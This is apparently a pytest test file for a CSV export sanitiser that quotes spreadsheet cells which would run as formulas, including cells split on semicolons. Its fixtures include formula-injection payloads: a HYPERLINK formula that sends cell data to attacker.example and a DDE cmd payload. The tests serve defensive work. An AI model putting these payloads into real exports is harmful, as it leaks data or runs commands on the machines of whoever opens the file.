"""CSV exports as a spreadsheet reads them: text that would run as a formula is quoted, and
numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from levante.spreadsheet import csv_text, formula_safe


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://attacker.example/?q="&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=ops@example.com",
    ],
)
def test_a_cell_that_would_run_is_quoted(hostile: str) -> None:
    assert formula_safe(hostile) == "'" + hostile


@pytest.mark.parametrize(
    ("hostile", "safe"),
    [
        ("x;=2+3@e.example", "x;'=2+3@e.example"),
        ("a;b;@SUM(A1)", "a;b;'@SUM(A1)"),
        ("name\t+1", "name\t'+1"),
        ("=1;-1", "'=1;'-1"),
    ],
)
def test_a_cell_a_semicolon_spreadsheet_would_cut_is_quoted_after_the_cut(
    hostile: str, safe: str
) -> None:
    """Probe: a sign-up address ``x;=2+3@e.example`` ran as ``=2+3...`` in a spreadsheet that
    splits on semicolons (Excel in much of Europe)."""
    assert formula_safe(hostile) == safe
    for part in str(formula_safe(hostile)).replace("\t", ";").split(";"):
        assert not part.startswith(("=", "+", "-", "@")), part


@pytest.mark.parametrize("value", ["-12.50", "-3", "12.50", "0", "Acme", "a=b", "", "#12 #13"])
def test_numbers_and_plain_text_stay_as_they_are(value: str) -> None:
    assert formula_safe(value) == value


def test_values_that_are_not_text_pass_through() -> None:
    assert formula_safe(-7) == -7
    assert formula_safe(None) is None


def test_csv_text_quotes_every_cell_and_keeps_the_layout() -> None:
    text = csv_text(["name", "amount"], [["=cmd()", "-1.50"], ["Acme, Inc.", 3]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "amount"],
        ["'=cmd()", "-1.50"],
        ["Acme, Inc.", "3"],
    ]
